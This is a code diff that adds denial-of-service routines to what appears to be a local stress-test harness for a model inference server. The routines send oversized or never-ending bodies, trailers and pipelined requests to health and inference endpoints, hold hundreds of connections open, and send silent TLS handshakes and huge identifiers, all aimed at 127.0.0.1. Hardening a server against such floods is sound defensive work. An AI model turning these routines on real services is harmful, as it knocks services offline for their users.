@@ -168,6 +168,78 @@ def long_shapes(target: AttackTarget, goes_on: Callable[[], bool]) -> None:
     _exchange(target, goes_on, [_infer_request("m", {"inputs": [entry]}, b"")])
 
 
+def bodies_for_nothing(target: AttackTarget, goes_on: Callable[[], bool]) -> None:
+    """Send nearly a megabyte of a body to an address that reads none, on hundreds of connections, and stop."""
+    head = b"GET /v2/health/live HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n"
+    _hold(target, goes_on, head + bytes(900_000))
+
+
+def chunks_for_nothing(target: AttackTarget, goes_on: Callable[[], bool]) -> None:
+    """Send nearly a megabyte in chunks to an address that reads no body, on hundreds of connections, and stop."""
+    head = b"GET /v2/health/live HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
+    _hold(target, goes_on, head + b"10000\r\n%s\r\n" % bytes(1 << 16) * 14)
+
+
+def endless_trailers(target: AttackTarget, goes_on: Callable[[], bool]) -> None:
+    """Send trailers behind a chunked body that do not end."""
+    head = b"GET /v2/health/live HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n"
+    _pour(target, goes_on, head + b"a: b\r\n" * 1_000_000, 8)
+
+
+def unread_health(target: AttackTarget, goes_on: Callable[[], bool]) -> None:
+    """Ask whether the server is ready, thousands of times on hundreds of connections, and read no answer."""
+    _hold(target, goes_on, b"GET /v2/health/ready HTTP/1.1\r\nHost: x\r\n\r\n" * 100_000)
+
+
+def half_closed(target: AttackTarget, goes_on: Callable[[], bool]) -> None:
+    """Ask a thousand times at once, close that side, read a little, connect again."""
+    burst = b"GET /v2/health/ready HTTP/1.1\r\nHost: x\r\n\r\n" * 1000
+    while goes_on():
+        with suppress(OSError), socket.create_connection(("127.0.0.1", target.http), timeout=5.0) as connection:
+            connection.sendall(burst)
+            connection.shutdown(socket.SHUT_WR)
+            connection.recv(1 << 12)
+
+
+def silent_handshakes(target: AttackTarget, goes_on: Callable[[], bool]) -> None:
+    """Connect where TLS is spoken, on thousands of connections, and say nothing."""
+    _hold(target, goes_on, b"\x16\x03\x01\x02\x00", 2000)
+
+
+def long_identifiers(target: AttackTarget, goes_on: Callable[[], bool]) -> None:
+    """Send identifiers of megabytes, which answers repeat."""
+    entry = {"name": "INPUT0", "datatype": "FP32", "shape": [1, 150_000], "parameters": {"binary_data_size": 600_000}}
+    _exchange(target, goes_on, [_infer_request("m", {"id": "\x7f" * 10_000_000, "inputs": [entry]}, bytes(600_000))])
+
+
+def calls_for_nobody(target: AttackTarget, goes_on: Callable[[], bool]) -> None:
+    """Ask a model for answers without the token, as fast as they are refused."""
+    _pour(target, goes_on, b"POST /v2/models/m/infer HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n", _CONNECTIONS)
+
+
+def long_numbers(target: AttackTarget, goes_on: Callable[[], bool]) -> None:
+    """Send numbers of a hundred thousand digits."""
+    text = b'{"inputs":[{"name":"INPUT0","datatype":"FP32","shape":[1,%s],"data":[%s.%s]}]}'
+    digits = b"1" * 80_000
+    request = text % (digits, digits, digits)
+    head = "POST /v2/models/m/infer HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\nContent-Length: %d\r\n\r\n"
+    _exchange(target, goes_on, [(head % (TOKEN, len(request))).encode() + request])
+
+
+def _hold(target: AttackTarget, goes_on: Callable[[], bool], request: bytes, count: int = 250) -> None:
+    """Send as much of a request as is taken on each of so many connections, then nothing; read nothing."""
+    with ExitStack() as opened:
+        connections: list[socket.socket] = []
+        while goes_on():
+            if len(connections) == count:
+                time.sleep(0.05)
+                continue
+            with suppress(OSError):
+                connections.append(opened.enter_context(socket.create_connection(("127.0.0.1", target.http))))
+                connections[-1].settimeout(0.02)
+                connections[-1].sendall(request)
+
+
 def _infer_request(model: str, document: object, tensors: bytes) -> bytes:
     text = json.dumps(document, separators=(",", ":")).encode()
     lines = [
